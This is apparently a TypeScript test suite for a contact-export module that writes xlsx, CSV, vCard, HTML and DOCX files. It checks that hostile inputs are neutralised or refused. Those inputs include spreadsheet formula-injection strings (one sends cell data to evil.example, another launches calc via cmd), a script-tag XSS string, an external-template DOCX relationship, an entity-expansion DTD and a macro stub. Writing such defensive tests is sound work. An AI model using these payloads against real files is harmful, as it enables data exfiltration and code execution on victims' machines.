import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { parse } from 'parse5';
import { SaxesParser } from 'saxes';
import { AppError } from '../../platform/http/errors.ts';
import { mapHeaders } from '../imports/readers/header-map.ts';
import { keyOfTarget } from '../imports/readers/column-keys.ts';
import { readContacts } from '../imports/readers/index.ts';
import type { ImportedContact } from '../imports/readers/index.ts';
import {
  outlookColumns,
  writeOutlookCsv,
  writeWordCsv,
} from './csv-writers.ts';
import {
  checkTemplate,
  writeDocxLabels,
  writeDocxLetters,
} from './docx-writer.ts';
import { displayPhone } from '../../platform/text/phone.ts';
import { shownPhone } from './export-rows.ts';
import { neutralise } from './formula-guard.ts';
import { writeHtml } from './html-writer.ts';
import {
  checkedByReaders,
  docxText,
  docxWith,
  sampleRow,
  written,
} from './test-support.ts';
import { foldLine, writeVcard3, writeVcard4 } from './vcard-writer.ts';
import { writeXlsx } from './xlsx-writer.ts';

async function readBack(name: string, bytes: Buffer) {
  const contacts: ImportedContact[] = [];
  for await (const row of readContacts(name, bytes)) {
    if ('contact' in row) contacts.push(row.contact);
  }

  return contacts;
}

/** True when the XML parses (saxes is strict: any well-formedness error throws). */
const wellFormed = (xml: string) => {
  try {
    new SaxesParser().write(xml).close();

    return true;
  } catch {
    return false;
  }
};

type HtmlNode = {
  nodeName: string;
  value?: string;
  attrs?: { name: string; value: string }[];
  childNodes?: HtmlNode[];
};

/** Every element named `tag` under a node, in document order. */
const elements = (node: HtmlNode, tag: string): HtmlNode[] => [
  ...(node.nodeName === tag ? [node] : []),
  ...(node.childNodes ?? []).flatMap((child) => elements(child, tag)),
];

const textOf = (node: HtmlNode): string =>
  node.nodeName === '#text'
    ? (node.value ?? '')
    : (node.childNodes ?? []).map(textOf).join('');

const attribute = (node: HtmlNode, name: string) =>
  node.attrs?.find((attr) => attr.name === name)?.value;

describe('formula neutralisation', () => {
  it('prefixes text a spreadsheet would run as a formula', () => {
    for (const value of ['=1+2', '+cmd', '-2+3', '@SUM(A1)', '\t=x', '\r=x'])
      expect(neutralise(value)).to.equal(`'${value}`);
    expect(neutralise('Dupont')).to.equal('Dupont');
    expect(neutralise('06 12 34 56 78')).to.equal('06 12 34 56 78');
  });

  it('keeps an international phone number readable in a phone column only', () => {
    expect(neutralise('+33 6 12 34 56 78', true)).to.equal('+33 6 12 34 56 78');
    expect(neutralise('+33 6 12 34 56 78')).to.equal("'+33 6 12 34 56 78");
    expect(neutralise('+1 (555) 010-0199', true)).to.equal('+1 (555) 010-0199');
    // Anything else in a phone column is still neutralised.
    expect(neutralise('+HYPERLINK("x")', true)).to.equal(`'+HYPERLINK("x")`);
    expect(neutralise('=1+2', true)).to.equal("'=1+2");
  });
});

describe('phones in exports', () => {
  it('shows French numbers as libphonenumber does, only faster', () => {
    const numbers = [
      '+33561000001',
      '+33612345678',
      '+33712345678',
      '+33123456789',
      '+33987654321',
      '+33800123456',
      '+262262123456',
      '+442079460958',
      '+3225551234',
    ];
    for (const e164 of numbers)
      expect(shownPhone(e164, 'x', 'FR'), e164).to.equal(
        displayPhone(e164, 'x', 'FR'),
      );
    expect(shownPhone('+33561000001', 'x', 'BE')).to.equal(
      displayPhone('+33561000001', 'x', 'BE'),
    );
    expect(shownPhone(null, '05 61', 'FR')).to.equal('05 61');
  });
});

describe('xlsx export', () => {
  it('writes typed cells under a frozen, filtered French header', async () => {
    const rows = [
      sampleRow(),
      sampleRow({
        id: 8,
        lastName: '=HYPERLINK("http://evil.example/?"&A1)',
        firstName: null,
        phone: '+44 20 7946 0958',
        birthDate: '--07-14',
      }),
    ];
    const { bytes, count } = await written(writeXlsx, rows);
    expect(count).to.equal(2);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 11)).to.deep.equal([
      'Identifiant',
      'Civilité',
      'Titre',
      'Nom',
      'Prénom',
      'Type de contact',
      'Fonction',
      'Société / Organisme',
      'E-mail principal',
      'Fax principal',
      'Téléphone principal',
    ]);
    expect(sheet.views[0]).to.include({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).to.not.equal(undefined);
    expect(sheet.getRow(1).getCell(1).font?.bold).to.equal(true);
    expect(sheet.getColumn(4).width).to.equal(20);

    const first = sheet.getRow(2);
    expect(first.getCell(1).value).to.equal(7);
    expect(first.getCell(2).value).to.equal('Mme');
    expect(first.getCell(6).value).to.equal('Presse');
    expect(first.getCell(11).value).to.equal('05 61 00 00 01');
    expect(first.getCell(11).type).to.equal(ExcelJS.ValueType.String);
    const created = first.getCell(24).value as Date;
    // 23:30 UTC on 15 January is already the 16th in Paris.
    expect(created).to.be.instanceOf(Date);
    expect(created.toISOString().slice(0, 10)).to.equal('2026-01-16');
    expect(first.getCell(24).numFmt).to.equal('dd/mm/yyyy');
    expect((first.getCell(23).value as Date).toISOString()).to.equal(
      '1980-02-29T00:00:00.000Z',
    );

    const second = sheet.getRow(3);
    // Text is never a formula in a workbook: written as is, no apostrophe.
    expect(second.getCell(4).value).to.equal(
      '=HYPERLINK("http://evil.example/?"&A1)',
    );
    expect(second.getCell(4).type).to.equal(ExcelJS.ValueType.String);
    expect(second.getCell(4).formula).to.equal(undefined);
    expect(second.getCell(11).value).to.equal('+44 20 7946 0958');
    expect(second.getCell(23).value).to.equal('14/07');
  });

  it('writes a birthday without a year that the importer reads back', async () => {
    const { bytes } = await written(writeXlsx, [
      sampleRow({ birthDate: '--08-15' }),
    ]);
    const [contact] = await readBack('export.xlsx', bytes);
    expect(contact?.birthDate).to.equal('--08-15');
  });

  it('writes English headers on request', async () => {
    const { bytes } = await written(writeXlsx, [sampleRow()], { lang: 'en' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const header = workbook.worksheets[0]!.getRow(1).values as unknown[];
    expect(header.slice(1, 9)).to.deep.equal([
      'ID',
      'Civility',
      'Title',
      'Last name',
      'First name',
      'Contact type',
      'Function',
      'Organisation',
    ]);
    expect(workbook.worksheets[0]!.getRow(2).getCell(6).value).to.equal(
      'Press',
    );
  });
});

describe('Outlook CSV export', () => {
  it('uses only column names the importer knows as Outlook’s, in both languages', () => {
    for (const lang of ['fr', 'en'] as const) {
      const headers = outlookColumns.map((column) => column.header[lang]);
      const mapping = mapHeaders(headers);
      const keys = mapping.columns.map((target) =>
        target ? keyOfTarget(target) : null,
      );
      expect(keys, lang).to.deep.equal([
        'civility',
        'firstName',
        null,
        'lastName',
        null,
        'company',
        'department',
        'function',
        'address.work.street',
        'address.work.street2',
        'address.work.city',
        'address.work.region',
        'address.work.postalCode',
        'address.work.country',
        'phone.fax',
        'phone.office',
        'phone.office',
        'phone.home',
        'phone.home',
        'phone.mobile',
        'phone.other',
        'email',
        null,
        null,
        'email',
        'email',
        'contactType',
      ]);
    }
  });

  it('writes UTF-8 with BOM, CRLF and quoted fields, as Outlook does', async () => {
    const { bytes } = await written(writeOutlookCsv, [sampleRow()]);
    expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    const lines = text.split('\r\n');
    expect(lines[0]).to.match(/^"Titre","Prénom","Deuxième prénom","Nom",/);
    expect(lines[1]).to.match(/^"Mme","Éloïse","","Lefèvre","",/);
    expect(lines[2]).to.equal('');
    expect(text.replace(/\r\n/g, '')).to.not.include('\n');
  });

  it('loses no field of the minimum set through the project’s Outlook importer', async () => {
    const rows = [
      sampleRow(),
      sampleRow({
        id: 9,
        civility: 'M',
        title: null,
        lastName: 'O’Brien, "Jr"',
        firstName: 'Seán',
        contactType: 'decision_maker',
        function: 'Directeur; général',
        organisation: 'BBC\nWorld',
        department: null,
        email: 'sean@bbc.co.uk',
        otherEmails: [],
        phone: '+44 20 7946 0958',
        office: ['+44 20 7946 0958'],
        mobile: [],
        fax: '+44 20 7946 0000',
        street: '=cmd|"/c calc"!A1',
        street2: null,
        postalCode: 'W1A 1AA',
        city: 'London',
        country: 'GB',
      }),
    ];
    for (const lang of ['fr', 'en'] as const) {
      const { bytes } = await written(writeOutlookCsv, rows, { lang });
      const [first, second] = await readBack('contacts.csv', bytes);
      expect(first, lang).to.deep.include({
        civility: 'MME',
        firstName: 'Éloïse',
        lastName: 'Lefèvre',
        contactType: 'press',
      });
      expect(first?.emails?.map((e) => e.address)).to.deep.equal([
        'eloise.lefevre@ladepeche.fr',
        'eloise@perso.fr',
      ]);
      expect(first?.affiliations?.[0]).to.deep.include({
        companyName: 'La Dépêche du Midi',
        function: 'Rédactrice en chef',
        department: 'Culture',
      });
      const phones = first?.phones?.map((p) => [p.kind, p.number]);
      expect(phones).to.deep.include(['office', '05 61 00 00 01']);
      expect(phones).to.deep.include(['fax', '05 61 00 00 02']);
      expect(phones).to.deep.include(['mobile', '06 12 34 56 78']);
      expect(first?.addresses?.[0]).to.deep.include({
        street: '12 rue de l’Église',
        postalCode: '31000',
        city: 'Toulouse',
        country: 'FR',
      });

      expect(second, lang).to.deep.include({
        civility: 'M',
        firstName: 'Seán',
        lastName: 'O’Brien, "Jr"',
        contactType: 'decision_maker',
      });
      expect(second?.affiliations?.[0]).to.deep.include({
        companyName: 'BBC\nWorld',
        function: 'Directeur; général',
      });
      // E.164 numbers come back as they left: no apostrophe in Outlook's phone fields.
      const foreign = second?.phones?.map((p) => [p.kind, p.number]);
      expect(foreign).to.deep.include(['office', '+44 20 7946 0958']);
      expect(foreign).to.deep.include(['fax', '+44 20 7946 0000']);
      // The formula guard is undone by the importer: the exact text comes back.
      expect(second?.addresses?.[0]?.street).to.equal('=cmd|"/c calc"!A1');
    }
  });
});

describe('formula guard round trip', () => {
  const tricky = () =>
    sampleRow({
      lastName: '=HYPERLINK("http://x")',
      phone: '+33 1 23 45 67 89',
      office: ['+33 1 23 45 67 89'],
      mobile: [],
      function: '@Rédactrice',
      department: '-Culture',
    });

  it('writes text starting with = + - @ as plain xlsx string cells, never formulas', async () => {
    const { bytes } = await written(writeXlsx, [tricky()]);
    const zip = await JSZip.loadAsync(bytes);
    const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(xml).to.not.match(/<f[ >]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const row = workbook.worksheets[0]!.getRow(2);
    for (const [column, text] of [
      [4, '=HYPERLINK("http://x")'],
      [7, '@Rédactrice'],
      [11, '+33 1 23 45 67 89'],
    ] as const) {
      expect(row.getCell(column).value).to.equal(text);
      expect(row.getCell(column).type).to.equal(ExcelJS.ValueType.String);
    }
    const [back] = await readBack('contacts.xlsx', bytes);
    expect(back?.lastName).to.equal('=HYPERLINK("http://x")');
    expect(back?.affiliations?.[0]?.function).to.equal('@Rédactrice');
  });

  for (const [format, writer, file] of [
    ['Outlook CSV', writeOutlookCsv, 'contacts.csv'],
    ['Word mail-merge CSV', writeWordCsv, 'publipostage.csv'],
  ] as const) {
    it(`keeps the guard in ${format} and the importer undoes it exactly`, async () => {
      for (const lang of ['fr', 'en'] as const) {
        const { bytes } = await written(writer, [tricky()], { lang });
        expect(bytes.toString('utf8')).to.include(
          `"'=HYPERLINK(""http://x"")"`,
        );
        const [back] = await readBack(file, bytes);
        expect(back?.lastName, lang).to.equal('=HYPERLINK("http://x")');
        expect(back?.affiliations?.[0]?.function, lang).to.equal('@Rédactrice');
        expect(
          back?.phones?.map((p) => p.number),
          lang,
        ).to.include('+33 1 23 45 67 89');
      }
    });
  }
});

describe('vCard export', () => {
  it('folds long lines at 75 octets without cutting a character', () => {
    const line = `NOTE:${'é'.repeat(100)}`;
    const folded = foldLine(line);
    const parts = folded.split('\r\n');
    for (const part of parts) expect(Buffer.byteLength(part)).to.be.at.most(75);
    expect(
      parts.map((part, i) => (i ? part.slice(1) : part)).join(''),
    ).to.equal(line);
  });

  for (const [version, writer] of [
    ['3.0', writeVcard3],
    ['4.0', writeVcard4],
  ] as const) {
    it(`writes vCard ${version} that the project’s vCard reader reads back`, async () => {
      const rows = [
        sampleRow({
          organisation:
            'Radio; Télé, et Cie — une très longue raison sociale pour plier',
        }),
        sampleRow({
          id: 8,
          lastName: 'Martin',
          firstName: 'Paul',
          civility: 'M',
        }),
      ];
      const { bytes, count } = await written(writer, rows);
      expect(count).to.equal(2);
      const text = bytes.toString('utf8');
      expect(text).to.include(`VERSION:${version}\r\n`);
      expect(text).to.not.match(/CHARSET/i);
      for (const line of text.split('\r\n'))
        expect(Buffer.byteLength(line)).to.be.at.most(75);
      const [first, second] = await readBack('contacts.vcf', bytes);
      expect(first).to.deep.include({
        civility: 'MME',
        firstName: 'Éloïse',
        lastName: 'Lefèvre',
      });
      expect(first?.affiliations?.[0]).to.deep.include({
        companyName:
          'Radio; Télé, et Cie — une très longue raison sociale pour plier',
        department: 'Culture',
        function: 'Rédactrice en chef',
      });
      expect(first?.emails?.[0]?.address).to.equal(
        'eloise.lefevre@ladepeche.fr',
      );
      const phones = first?.phones?.map((p) => [p.kind, p.number]);
      expect(phones).to.deep.include(['office', '05 61 00 00 01']);
      expect(phones).to.deep.include(['fax', '05 61 00 00 02']);
      expect(phones).to.deep.include(['mobile', '06 12 34 56 78']);
      expect(first?.addresses?.[0]).to.deep.include({
        street: '12 rue de l’Église',
        street2: 'Bâtiment B',
        postalCode: '31000',
        city: 'Toulouse',
      });
      // The contact type, written as a category, comes back as the type.
      expect(first?.contactType).to.equal('press');
      expect(first?.terms ?? []).to.deep.equal([]);
      expect(second).to.deep.include({ civility: 'M', lastName: 'Martin' });
      for (const lang of ['fr', 'en'] as const) {
        const vip = await written(writer, [sampleRow({ contactType: 'vip' })], {
          lang,
        });
        expect(vip.bytes.toString('utf8')).to.include('CATEGORIES:VIP\r\n');
        const [back] = await readBack('vip.vcf', vip.bytes);
        expect(back?.contactType, lang).to.equal('vip');
        const maker = await written(
          writer,
          [sampleRow({ contactType: 'decision_maker' })],
          { lang },
        );
        const [other] = await readBack('decideur.vcf', maker.bytes);
        expect(other?.contactType, lang).to.equal('decision_maker');
      }
    });

    it(`keeps a birthday without a year through vCard ${version}`, async () => {
      const { bytes } = await written(writer, [
        sampleRow({ birthDate: '--08-15' }),
      ]);
      expect(bytes.toString('utf8')).to.include(
        version === '3.0'
          ? 'BDAY;X-APPLE-OMIT-YEAR=1604:1604-08-15\r\n'
          : 'BDAY:--0815\r\n',
      );
      const [back] = await readBack('anniversaire.vcf', bytes);
      expect(back?.birthDate).to.equal('--08-15');
    });
  }
});

describe('HTML export', () => {
  it('writes an accessible French page with every value escaped', async () => {
    const rows = [
      sampleRow({
        lastName: '<script>alert("x")</script>',
        organisation: 'A & B',
      }),
      sampleRow({ id: 8 }),
    ];
    const { bytes, count } = await written(writeHtml, rows);
    expect(count).to.equal(2);
    const html = bytes.toString('utf8');
    expect(html).to.not.include('<script>');
    const document = parse(html) as unknown as HtmlNode;
    expect(attribute(elements(document, 'html')[0]!, 'lang')).to.equal('fr');
    expect(textOf(elements(document, 'caption')[0]!)).to.equal(
      'Liste des contacts exportés',
    );
    const headers = elements(document, 'th');
    expect(headers.every((th) => attribute(th, 'scope') === 'col')).to.equal(
      true,
    );
    expect(headers.map(textOf).slice(0, 3)).to.deep.equal([
      'Nom',
      'Prénom',
      'Type de contact',
    ]);
    const body = elements(document, 'tbody')[0]!;
    const cells = elements(body, 'tr').map((tr) =>
      elements(tr, 'td').map(textOf),
    );
    expect(elements(document, 'script')).to.have.length(0);
    expect(cells).to.have.length(2);
    expect(cells[0]?.[0]).to.equal('<script>alert("x")</script>');
    expect(cells[0]?.[4]).to.equal('A & B');
    expect(html).to.include('@media print');
  });
});

describe('Word mail-merge CSV', () => {
  it('writes semicolon-separated fields under merge field names, UTF-8 with BOM', async () => {
    const { bytes } = await written(writeWordCsv, [
      sampleRow({ lastName: '@SOMME(A1)' }),
    ]);
    expect([...bytes.subarray(0, 3)]).to.deep.equal([0xef, 0xbb, 0xbf]);
    const [header, line] = bytes.toString('utf8').slice(1).split('\r\n');
    expect(header).to.match(
      /^"Civilité";"Titre";"Nom";"Prénom";"Type_de_contact";"Fonction";"Société";/,
    );
    expect(line).to.match(
      /^"Mme";"Docteure";"'@SOMME\(A1\)";"Éloïse";"Presse";/,
    );
    expect(header).to.include('"Code_postal";"Ville"');
  });

  it('shows a mobile under « Mobile » only, the phone field under another number or none', async () => {
    const fields = async (row: Parameters<typeof sampleRow>[0]) => {
      const { bytes } = await written(writeWordCsv, [sampleRow(row)]);
      const [header, line] = bytes.toString('utf8').slice(1).split('\r\n');
      const names = header!.split(';');
      const values = line!.split(';');
      const value = (name: string) => values[names.indexOf(`"${name}"`)];

      return [value('Téléphone'), value('Mobile')];
    };
    // Only a mobile: no office number to show under « Téléphone ».
    expect(
      await fields({
        phone: '06 12 34 56 78',
        mobile: ['06 12 34 56 78'],
        office: [],
        home: [],
        otherPhones: [],
      }),
    ).to.deep.equal(['""', '"06 12 34 56 78"']);
    // The mobile is the main phone: the office number goes under « Téléphone ».
    expect(
      await fields({
        phone: '06 12 34 56 78',
        mobile: ['06 12 34 56 78'],
        office: ['05 61 00 00 01'],
        home: [],
        otherPhones: [],
      }),
    ).to.deep.equal(['"05 61 00 00 01"', '"06 12 34 56 78"']);
    expect(
      await fields({
        phone: '05 61 00 00 01',
        mobile: ['06 12 34 56 78'],
        office: ['05 61 00 00 01'],
        home: [],
        otherPhones: [],
      }),
    ).to.deep.equal(['"05 61 00 00 01"', '"06 12 34 56 78"']);
  });
});

describe('DOCX mail merge', () => {
  it('writes one built-in letter per contact, page breaks between them', async () => {
    const rows = [
      sampleRow(),
      sampleRow({
        id: 8,
        civility: 'M',
        firstName: 'Paul',
        lastName: 'Martin',
        street2: null,
        title: null,
      }),
      sampleRow({
        id: 9,
        lastName: 'Tom & Jerry <SARL>',
        civility: null,
        title: null,
      }),
    ];
    const { bytes, count } = await written(writeDocxLetters, rows);
    expect(count).to.equal(3);
    const text = await docxText(bytes);
    const letters = text.split('\f');
    expect(letters).to.have.length(3);
    expect(letters[0]).to.include('Mme Docteure Éloïse Lefèvre\n');
    expect(letters[0]).to.include('Bâtiment B\n31000 Toulouse\n');
    expect(letters[0]).to.include('Madame,');
    // No empty line where Paul has no second address line.
    expect(letters[1]).to.include('12 rue de l’Église\n31000 Toulouse');
    expect(letters[1]).to.include('Monsieur,');
    expect(letters[2]).to.include('Éloïse Tom & Jerry <SARL>');
    expect(letters[2]).to.include('Madame, Monsieur,');
    expect(text).to.not.match(/\{\{|«/);
    const zip = await (await import('jszip')).default.loadAsync(bytes);
    expect(
      wellFormed(await zip.file('word/document.xml')!.async('string')),
    ).to.equal(true);
    expect(zip.file('[Content_Types].xml')).to.not.equal(null);
  });

  it('merges a user template whose placeholders Word split across runs', async () => {
    const template = await docxWith(
      '<w:p><w:r><w:t xml:space="preserve">Bonjour {{Pré</w:t></w:r>' +
        '<w:r><w:rPr><w:b/></w:rPr><w:t>nom</w:t></w:r>' +
        '<w:r><w:t>}} {{ NOM }}, de «Soci</w:t></w:r><w:r><w:t>été»</w:t></w:r></w:p>' +
        '<w:p><w:bookmarkStart w:id="0" w:name="_GoBack"/>' +
        '<w:fldSimple w:instr=" MERGEFIELD Ville \\* MERGEFORMAT ">' +
        '<w:r><w:t>«Ville»</w:t></w:r></w:fldSimple><w:bookmarkEnd w:id="0"/></w:p>' +
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
        '<w:r><w:instrText xml:space="preserve"> MERGEFIELD Code_postal </w:instrText></w:r>' +
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' +
        '<w:r><w:t>«Code_postal»</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    );
    const { bytes } = await written(
      writeDocxLetters,
      [sampleRow(), sampleRow({ firstName: 'A<b>', lastName: 'X & Y' })],
      { template, templateName: 'lettre.docx' },
    );
    const text = await docxText(bytes);
    const [first, second] = text.split('\f');
    expect(first).to.equal(
      'Bonjour Éloïse Lefèvre, de La Dépêche du Midi\nToulouse\n31000\n',
    );
    expect(second).to.include('Bonjour A<b> X & Y,');
    const zip = await (await import('jszip')).default.loadAsync(bytes);
    const xml = await zip.file('word/document.xml')!.async('string');
    expect(wellFormed(xml)).to.equal(true);
    expect(xml).to.not.include('bookmarkStart');
    // The user's formatting run stays where it was.
    expect(xml).to.include('<w:b/>');
  });

  it('refuses hostile or broken templates, naming the file and the reason', async () => {
    const cases: [Buffer, RegExp][] = [
      [
        Buffer.from('%PDF-1.7 pas un docx'),
        /« faux\.docx » refusé : ce n’est pas un document Word/,
      ],
      [
        await docxWith('<w:p><w:r><w:t>{{Salaire}}</w:t></w:r></w:p>'),
        /champ de fusion inconnu « Salaire »/,
      ],
      [
        await docxWith('<w:p/>', {
          'word/_rels/settings.xml.rels':
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/' +
            'officeDocument/2006/relationships/attachedTemplate" ' +
            'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        }),
        /ressource externe/,
      ],
      [
        await docxWith('<w:p/>', {
          'word/custom.xml':
            '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
        }),
        /DTD/,
      ],
      [await docxWith('<w:p/>', { 'word/vbaProject.bin': 'macro' }), /macros/],
    ];
    for (const [template, reason] of cases) {
      const failure = await written(writeDocxLetters, [sampleRow()], {
        template,
        templateName: 'faux.docx',
      }).catch((error: unknown) => error);
      expect(failure).to.be.instanceOf(AppError);
      const error = failure as AppError;
      expect(error.code).to.equal('EXPORT_TEMPLATE_INVALID');
      expect(error.status).to.equal(422);
      expect(error.messageFr).to.match(reason);
      expect(error.messageFr).to.include('« faux.docx »');
      expect(error.messageEn).to.include('"faux.docx"');
    }
  });

  it('lays labels out 3 across, each an address block', async () => {
    const rows = Array.from({ length: 5 }, (_unused, index) =>
      sampleRow({ id: index + 1, lastName: `Nom${index + 1}`, street2: null }),
    );
    const { bytes, count } = await written(writeDocxLabels, rows);
    expect(count).to.equal(5);
    const zip = await (await import('jszip')).default.loadAsync(bytes);
    const xml = await zip.file('word/document.xml')!.async('string');
    expect(wellFormed(xml)).to.equal(true);
    expect(xml.match(/<w:tr>/g)).to.have.length(2);
    expect(xml.match(/<w:tc>/g)).to.have.length(6);
    const text = await docxText(bytes);
    expect(text).to.include(
      'Mme Docteure Éloïse Nom1\nRédactrice en chef\nLa Dépêche du Midi\n' +
        '12 rue de l’Église\n31000 Toulouse\n',
    );
    expect(text).to.include('Nom5');
  });
});

describe('DOCX headers and footers with merge fields', () => {
  const ooxml = 'http://schemas.openxmlformats.org';
  const relsNs = `${ooxml}/officeDocument/2006/relationships`;
  const w = `xmlns:w="${ooxml}/wordprocessingml/2006/main" xmlns:r="${relsNs}"`;
  const part = (root: 'hdr' | 'ftr', text: string) =>
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:${root} ${w}>` +
    `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p></w:${root}>`;

  /** A letter template whose header names the addressee and whose footer is fixed. */
  const template = () =>
    docxWith('', {
      'word/document.xml':
        `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document ${w}>` +
        '<w:body><w:p><w:r><w:t>Lettre à {{Nom}}</w:t></w:r></w:p>' +
        '<w:sectPr><w:headerReference w:type="default" r:id="rId7"/>' +
        '<w:footerReference w:type="default" r:id="rId8"/>' +
        '<w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>',
      'word/_rels/document.xml.rels':
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
        `<Relationships xmlns="${ooxml}/package/2006/relationships">` +
        `<Relationship Id="rId7" Type="${relsNs}/header" Target="header1.xml"/>` +
        `<Relationship Id="rId8" Type="${relsNs}/footer" Target="footer1.xml"/>` +
        '</Relationships>',
      'word/header1.xml': part(
        'hdr',
        'Dossier de {{Prénom}} {{Nom}} — «Ville»',
      ),
      'word/_rels/header1.xml.rels':
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
        `<Relationships xmlns="${ooxml}/package/2006/relationships"/>`,
      'word/footer1.xml': part('ftr', 'Service communication'),
    });

  it('fills the header for each letter, one section each, the fixed footer shared', async () => {
    const rows = [
      sampleRow(),
      sampleRow({ id: 8, firstName: 'Paul', lastName: 'Martin' }),
      // Reads like the first one: shares its copy of the header.
      sampleRow({ id: 9 }),
    ];
    const { bytes, count } = await written(writeDocxLetters, rows, {
      template: await template(),
      templateName: 'entete.docx',
    });
    expect(count).to.equal(3);
    const zip = await (await import('jszip')).default.loadAsync(bytes);
    const read = (name: string) => zip.file(name)!.async('string');
    const document = await read('word/document.xml');
    expect(wellFormed(document)).to.equal(true);
    const sections = [
      ...document.matchAll(/<w:headerReference [^>]*r:id="([^"]+)"/g),
    ].map((match) => match[1]);
    expect(sections).to.have.length(3);
    // A section break, not a page break, between two letters.
    expect(document).to.not.include('w:type="page"');
    expect(document.match(/<w:pPr><w:sectPr>/g)).to.have.length(2);
    // Every section keeps the shared footer.
    expect(
      document.match(/<w:footerReference [^>]*r:id="rId8"/g),
    ).to.have.length(3);

    const relationships = await read('word/_rels/document.xml.rels');
    const types = await read('[Content_Types].xml');
    const headerText = async (relId: string) => {
      const target = new RegExp(`Id="${relId}"[^>]*Target="([^"]+)"`).exec(
        relationships,
      )![1]!;
      expect(types).to.include(`PartName="/word/${target}"`);
      expect(zip.file(`word/_rels/${target}.rels`)).to.not.equal(null);
      const xml = await read(`word/${target}`);
      expect(wellFormed(xml)).to.equal(true);

      return xml.replace(/<[^>]+>/g, '');
    };
    expect(await headerText(sections[0]!)).to.equal(
      'Dossier de Éloïse Lefèvre — Toulouse',
    );
    expect(await headerText(sections[1]!)).to.equal(
      'Dossier de Paul Martin — Toulouse',
    );
    expect(sections[2]).to.equal(sections[0]);
    // The template's own header stays as written, the footer too.
    expect(await read('word/header1.xml')).to.include('{{Nom}}');
    expect(await read('word/footer1.xml')).to.include('Service communication');
    const text = await docxText(bytes);
    expect(text).to.equal(
      'Lettre à Lefèvre\n\nLettre à Martin\n\nLettre à Lefèvre\n',
    );
  });

  it('streams 12,000 letters with merged headers into a package readers open', async function () {
    this.timeout(30_000);
    // 12,000 letters, each with its header and the header's relationships:
    // 24,000 copies, more than the 20,000 files the whole-archive zip allowed.
    const rows = Array.from({ length: 12_000 }, (_unused, index) =>
      sampleRow({ id: index + 1, lastName: `Nom${index + 1}` }),
    );
    const { bytes, count } = await written(writeDocxLetters, rows, {
      template: await template(),
      templateName: 'entete.docx',
    });
    expect(count).to.equal(12_000);
    const directory = await mkdtemp(join(tmpdir(), 'relais-letters-'));
    try {
      const path = join(directory, 'lettres.docx');
      await writeFile(path, bytes);
      checkedByReaders(path);
    } finally {
      await rm(directory, { recursive: true, force: true });
    }
    const zip = await (await import('jszip')).default.loadAsync(bytes);
    const relationships = await zip
      .file('word/_rels/document.xml.rels')!
      .async('string');
    const document = await zip.file('word/document.xml')!.async('string');
    const last = [
      ...document.matchAll(/<w:headerReference [^>]*r:id="([^"]+)"/g),
    ].pop()![1]!;
    const target = new RegExp(`Id="${last}"[^>]*Target="([^"]+)"`).exec(
      relationships,
    )![1]!;
    const header = await zip.file(`word/${target}`)!.async('string');
    expect(header.replace(/<[^>]+>/g, '')).to.equal(
      'Dossier de Éloïse Nom12000 — Toulouse',
    );
  });

  it('refuses an unknown field in a header', async () => {
    const zip = await (
      await import('jszip')
    ).default.loadAsync(await template());
    zip.file('word/header1.xml', part('hdr', '{{Salaire}}'));
    const broken = await zip.generateAsync({ type: 'nodebuffer' });
    const refusal = await checkTemplate(broken, 'entete.docx').catch(
      (error: unknown) => error,
    );
    expect(refusal).to.be.instanceOf(AppError);
    expect((refusal as AppError).message).to.match(/« Salaire »/);
  });
});
